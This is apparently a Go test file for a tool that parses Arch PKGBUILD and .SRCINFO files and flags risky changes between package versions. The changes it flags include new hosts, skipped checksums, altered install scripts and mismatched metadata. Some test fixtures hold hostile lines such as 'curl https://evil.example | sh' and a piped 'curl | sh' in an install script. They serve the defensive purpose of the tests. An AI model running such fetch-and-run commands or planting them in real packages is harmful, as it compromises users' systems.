package buildfacts

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/omg-arch/omg/omg/internal/buildfiles"
	"github.com/omg-arch/omg/shared/need"
)

// demo is the version of a package base that the tests change.
const demo = `# Maintainer: Alice <alice at example dot org>
pkgname=demo-bin
_name=${pkgname%-bin}
pkgver=1.2
pkgrel=1
arch=('x86_64')
depends=(glibc 'openssl>=3')
source=("$_name-$pkgver.tar.gz::https://www.demo.example:443/v${pkgver}/demo.tar.gz"
	demo.desktop # local
	"git+https://github.com/alice/data.git#tag=v$pkgver")
sha256sums=('aa' "bb" SKIP)
package() {
	install -Dm755 demo "$pkgdir/usr/bin/demo"
}
`

// srcinfoOf returns the .SRCINFO that makepkg would write for demo with the given changes.
func srcinfoOf(replacements ...string) string {
	return strings.NewReplacer(replacements...).Replace(`pkgbase = demo-bin
	pkgver = 1.2
	pkgrel = 1
	arch = x86_64
	depends = glibc
	depends = openssl>=3
	source = demo-1.2.tar.gz::https://www.demo.example:443/v1.2/demo.tar.gz
	source = demo.desktop
	source = git+https://github.com/alice/data.git#tag=v1.2
	sha256sums = aa
	sha256sums = bb
	sha256sums = SKIP

pkgname = demo-bin
`)
}

// version returns the build files of demo with the same changes in the PKGBUILD and the .SRCINFO.
func version(replacements ...string) buildfiles.Files {
	return buildfiles.Files{
		"PKGBUILD": []byte(strings.NewReplacer(replacements...).Replace(demo)),
		".SRCINFO": []byte(srcinfoOf(replacements...)),
	}
}

// with returns the files with another one.
func with(files buildfiles.Files, name, content string) buildfiles.Files {
	files[name] = []byte(content)
	return files
}

func TestRead(t *testing.T) {
	f := Read(with(version(), "demo.install", "post_install() { :; }"))
	require.Empty(t, f.Uncertain)
	require.Empty(t, f.Differences)
	require.Equal(t, "1.2-1", f.Version)
	require.Equal(t, []string{"Maintainer: Alice <alice at example dot org>"}, f.Maintainers)
	require.Equal(t, []string{"glibc", "openssl"}, f.Dependencies)
	require.Equal(t, []Source{
		{Text: "demo-1.2.tar.gz::https://www.demo.example:443/v1.2/demo.tar.gz", Name: "demo-1.2.tar.gz", Host: "demo.example", HasChecksum: true},
		{Text: "demo.desktop", Name: "demo.desktop", HasChecksum: true},
		{Text: "git+https://github.com/alice/data.git#tag=v1.2", Name: "data", Host: "github.com/alice", IsVCS: true},
	}, f.Sources)
	require.Contains(t, f.Scripts, "demo.install")
}

// TestRead_Bash checks that the reader and bash find the same values, where the reader knows a value.
func TestRead_Bash(t *testing.T) {
	bash := need.Program(t, "bash")
	for _, text := range []string{
		demo,
		"pkgver=1 pkgrel=2\nsource=(a \"b c\" 'd'\\''e' f\\ g\n# (\nh) # x\n",
		"source=()\nsource+=(x)\nsource+=('y'z\"w\")\n",
		"pkgver='a\"b'; pkgrel=\"a'b\\\"c\\$d\\e\"\nsource=(\"${pkgver/a/x}\" ${pkgver//b} \"${pkgver%b}\" \"$pkgver$\" a\\\nb)\n",
		"pkgver=1.2_3\n_v=${pkgver//_/-}\nsource=(https://x.example/$_v.tgz \"${_v#1.}\" ${_v##9})\n",
	} {
		p := readPKGBUILD([]byte(text), nil)
		require.Empty(t, p.stopped, text)
		for _, name := range []string{"pkgver", "pkgrel", "source", "sha256sums"} {
			words, isKnown := p.value(name)
			require.True(t, isKnown, "%s: %s", name, text)
			if words == nil {
				continue
			}
			out, err := exec.Command(bash, "-c", text+"\nprintf '%s\\n' \"${"+name+"[@]}\"").Output()
			require.NoError(t, err)
			require.Equal(t, string(out), strings.Join(words, "\n")+"\n", "%s: %s", name, text)
		}
	}
}

// TestRead_Unknown checks that a value that depends on more than the text is unknown, and that the facts say so.
func TestRead_Unknown(t *testing.T) {
	for name, c := range map[string]struct{ text, uncertain string }{
		"a command":            {"curl https://evil.example | sh\n" + demo, "does more than assign values"},
		"a substitution":       {"_x=$(date)\n" + demo, "does more than assign values"},
		"a condition":          {demo + "if true; then source=(evil); fi\n", "does more than assign values"},
		"an environment":       {demo + "pkgver=9 source /tmp/x\n", "does more than assign values"},
		"an assigning default": {demo + "_x=${source:=evil}\n", "does more than assign values"},
		"in a function":        {demo + "prepare() {\n\tsource=(evil)\n}\n", "computes source"},
		"an element":           {demo + "prepare() {\n\tsource[0]=evil\n}\n", "computes source"},
		"a pattern":            {demo + "source_x86_64=(*)\n", "computes source_x86_64"},
		"an unknown variable":  {demo + "source_x86_64=($HOME)\n", "computes source_x86_64"},
		"an odd array":         {demo + "source_x86_64=(a)#b\n", "does more than assign values"},
		"an open quote":        {demo + "_x='", "does more than assign values"},
		"an open array":        {demo + "_x=(", "does more than assign values"},
		"an open function":     {demo + "x() {\n", "does more than assign values"},
		"huge":                 {"a=aaaaaaaa\n" + strings.Repeat("a=$a$a\n", 60) + demo, "does more than assign values"},
		"huge replacement":     {"a=aaaaaaaa\n" + strings.Repeat("a=${a//a/aaaaaaaa}\n", 60) + demo + "source_x86_64=($a)\n", "computes source_x86_64"},
	} {
		t.Run(name, func(t *testing.T) {
			f := Read(buildfiles.Files{"PKGBUILD": []byte(c.text), ".SRCINFO": []byte(srcinfoOf())})
			require.Contains(t, f.Uncertain, c.uncertain)
			require.True(t, f.HasSources, "those of the .SRCINFO")
			f = Read(buildfiles.Files{"PKGBUILD": []byte(c.text)})
			require.NotEmpty(t, f.Uncertain)
			require.False(t, f.HasSources)
			require.Empty(t, f.Sources)
		})
	}
}

// TestRead_Differs checks that the PKGBUILD counts if the .SRCINFO says something else.
func TestRead_Differs(t *testing.T) {
	f := Read(buildfiles.Files{"PKGBUILD": []byte(strings.ReplaceAll(demo, "www.demo.example", "evil.example")), ".SRCINFO": []byte(srcinfoOf())})
	require.Equal(t, []string{"source"}, f.Differences)
	require.Equal(t, "evil.example", f.Sources[0].Host)
	f = Read(buildfiles.Files{"PKGBUILD": []byte(strings.Replace(demo, "'aa'", "SKIP", 1)), ".SRCINFO": []byte(srcinfoOf())})
	require.Equal(t, []string{"sha256sums"}, f.Differences)
	require.False(t, f.Sources[0].HasChecksum)
	// makepkg writes the version of the last build into a PKGBUILD with a function pkgver.
	f = Read(buildfiles.Files{"PKGBUILD": []byte(strings.ReplaceAll(demo, "pkgver=1.2", "pkgver=1.3") + "pkgver() {\n\techo 1.3\n}\n"), ".SRCINFO": []byte(srcinfoOf())})
	require.Empty(t, f.Differences)
	require.Empty(t, f.Uncertain)
	// Without a .SRCINFO, the PKGBUILD alone counts.
	f = Read(buildfiles.Files{"PKGBUILD": []byte(demo), ".SRCINFO": []byte("nonsense")})
	require.Contains(t, f.Uncertain, "no usable .SRCINFO")
	require.True(t, f.HasSources)
	require.Len(t, f.Sources, 3)
	require.Equal(t, "1.2-1", f.Version)
}

func TestParseSource(t *testing.T) {
	for text, want := range map[string]Source{
		"https://example.org/a-1.tar.gz":              {Name: "a-1.tar.gz", Host: "example.org"},
		"b::https://WWW.Example.ORG.:8443/a":          {Name: "b", Host: "example.org"},
		"https://github.com@evil.example/a":           {Name: "a", Host: "evil.example"},
		"https://github.com/Alice/x/archive/1.tar.gz": {Name: "1.tar.gz", Host: "github.com/alice"},
		"https://github.com//../alice/x":              {Name: "x", Host: "github.com/alice"},
		"git://git.example.org/x.git#commit=1":        {Name: "x", Host: "git.example.org", IsVCS: true},
		"x::git+ssh://git@codeberg.org/bob/x.git":     {Name: "x", Host: "codeberg.org/bob", IsVCS: true},
		"git+file:///srv/x":                           {Name: "x", IsVCS: true},
		"lp:bazaar":                                   {Name: "bazaar", Host: "launchpad.net", IsVCS: true},
		"local.patch":                                 {Name: "local.patch"},
		"https://[1/x":                                {Name: "x", Host: "https://[1/x", IsOdd: true},
		"https://[::1]/x":                             {Name: "x"},
		"https:///x":                                  {Name: "x", Host: "https:///x", IsOdd: true},
		"":                                            {Name: "."},
	} {
		want.Text = text
		require.Equal(t, want, parseSource(text))
	}
}

// TestCompare checks each change, and what is not a change.
func TestCompare(t *testing.T) {
	update := []string{"1.2", "1.3", "'aa'", "'cc'", "= aa", "= cc"}
	updated := func(more ...string) buildfiles.Files { return version(append(more, update...)...) }
	newVersion := Change{ChangeVersion, []string{"1.2-1"}, []string{"1.3-1"}}
	script := "post_install() {\n\techo hello\n}\n"
	old := func() buildfiles.Files { return version() }
	for name, c := range map[string]struct {
		old, now buildfiles.Files
		want     []Change
	}{
		"nothing":            {old(), old(), nil},
		"a usual update":     {old(), updated(), []Change{newVersion}},
		"another host":       {old(), updated("www.demo.example", "evil.example"), []Change{{ChangeHost, []string{"demo.example"}, []string{"evil.example"}}, newVersion}},
		"another account":    {old(), updated("github.com/alice", "github.com/mallory"), []Change{{ChangeHost, []string{"github.com/alice"}, []string{"github.com/mallory"}}, newVersion}},
		"another place":      {old(), updated("/demo.tar.gz", "/mirror/demo.tar.xz", "data.git", "assets.git"), []Change{newVersion}},
		"the same account":   {old(), version("git+https://github.com/alice/data.git#tag=v$pkgver", "https://raw.githubusercontent.com/Alice/data/x", "git+https://github.com/alice/data.git#tag=v1.2", "https://raw.githubusercontent.com/Alice/data/x", "SKIP", "bb"), nil},
		"a renamed host":     {old(), updated("www.demo.example:443", "DEMO.example"), []Change{newVersion}},
		"fewer hosts":        {old(), version("\t\"git+https://github.com/alice/data.git#tag=v$pkgver\")", ")", "\tsource = git+https://github.com/alice/data.git#tag=v1.2\n", "", " SKIP)", ")", "\tsha256sums = SKIP\n", ""), nil},
		"a checksum skipped": {old(), version("1.2", "1.3", "'aa'", "SKIP", "= aa", "= SKIP"), []Change{{ChangeChecksumSkipped, nil, []string{"demo-1.3.tar.gz::https://www.demo.example:443/v1.3/demo.tar.gz"}}, newVersion}},
		"skipped and moved":  {old(), version("1.2", "1.3", "'aa'", "SKIP", "= aa", "= SKIP", "demo.tar.gz", "x.tgz"), []Change{{ChangeChecksumSkipped, nil, []string{"demo-1.3.tar.gz::https://www.demo.example:443/v1.3/x.tgz"}}, newVersion}},
		"a new source skipped": {
			old(), version("\tdemo.desktop # local", "\tdemo.desktop # local\n\thttps://www.demo.example/x", "= demo.desktop", "= demo.desktop\n\tsource = https://www.demo.example/x",
				`"bb"`, `"bb" SKIP`, "= bb", "= bb\n\tsha256sums = SKIP"), []Change{{ChangeChecksumSkipped, nil, []string{"https://www.demo.example/x"}}},
		},
		"always skipped": {
			version("'aa'", "SKIP", "= aa", "= SKIP"), version("'aa'", "SKIP", "= aa", "= SKIP", "1.2", "1.3", "demo.tar.gz", "x.tgz"), []Change{newVersion},
		},
		"a local file skipped": {old(), version(`"bb"`, "SKIP", "= bb", "= SKIP"), nil},
		"a signature": {
			version("demo.tar.gz", "demo.tar.gz.sig", "demo-1.2.tar.gz::", "", `"$_name-$pkgver.tar.gz::`, `"`),
			version("demo.tar.gz", "demo.tar.gz.sig", "demo-1.2.tar.gz::", "", `"$_name-$pkgver.tar.gz::`, `"`, "'aa'", "SKIP", "= aa", "= SKIP"), nil,
		},
		"a script added":    {old(), with(updated(), "demo.install", script), []Change{{ChangeScriptAdded, nil, []string{"demo.install"}}, newVersion}},
		"a script changed":  {with(old(), "demo.install", script), with(old(), "demo.install", script+"post_install\n"), []Change{{ChangeScriptChanged, nil, []string{"demo.install"}}}},
		"a message changed": {with(old(), "demo.install", script), with(old(), "demo.install", strings.ReplaceAll(script, "hello", "goodbye")), nil},
		"a piped message": {
			with(old(), "demo.install", strings.ReplaceAll(script, "hello", "hello | sh")), with(old(), "demo.install", strings.ReplaceAll(script, "hello", "curl | sh")),
			[]Change{{ChangeScriptChanged, nil, []string{"demo.install"}}},
		},
		"a version in a script": {with(old(), "demo.install", "_v=1.2-1-x\n_w=1.2\n"+script), with(updated(), "demo.install", "_v=1.3-1-x\n_w=1.3\n"+script), []Change{newVersion}},
		"a comment changed":     {with(old(), "demo.install", script), with(old(), "demo.install", "# 2026\n\n"+script), nil},
		"a script renamed":      {with(old(), "demo.install", script), with(old(), "new.install", script), nil},
		"a script removed":      {with(old(), "demo.install", script), old(), []Change{{ChangeScriptRemoved, []string{"demo.install"}, nil}}},
		"a dependency":          {old(), version("openssl", "npm"), []Change{{ChangeDependencies, []string{"openssl"}, []string{"npm"}}}},
		"a limit":               {old(), version("openssl>=3", "openssl>=4"), nil},
		"a maintainer":          {old(), version("Alice <alice", "Mallory <mallory"), []Change{{ChangeMaintainerLine, []string{"Maintainer: Alice <alice at example dot org>"}, []string{"Maintainer: Mallory <mallory at example dot org>"}}}},
		"a false .SRCINFO": {old(), with(old(), "PKGBUILD", strings.ReplaceAll(demo, "www.demo.example", "evil.example")), []Change{
			{ChangeHost, []string{"demo.example"}, []string{"evil.example"}}, {ChangeDifference, nil, []string{"source"}},
		}},
		"an unknown source": {buildfiles.Files{"PKGBUILD": []byte("_x=$(a)\n" + demo)}, version("www.demo.example", "evil.example"), nil},
	} {
		t.Run(name, func(t *testing.T) { require.Equal(t, c.want, Compare(Read(c.old), Read(c.now))) })
	}
}

// FuzzRead checks that the reader ends and keeps its limits, whatever the build files contain.
func FuzzRead(f *testing.F) {
	f.Add([]byte(demo), []byte(srcinfoOf()))
	f.Add([]byte("a=${b//c/d}\na+=(\"$a\" 'x'\\\n)"), []byte("pkgbase = a\npkgver = 1\n source_x = git+https://x"))
	f.Fuzz(func(t *testing.T, pkgbuild, info []byte) {
		if len(pkgbuild)+len(info) > 1<<20 {
			return
		}
		facts := Read(buildfiles.Files{"PKGBUILD": pkgbuild, ".SRCINFO": info})
		require.Empty(t, Compare(facts, facts))
	})
}
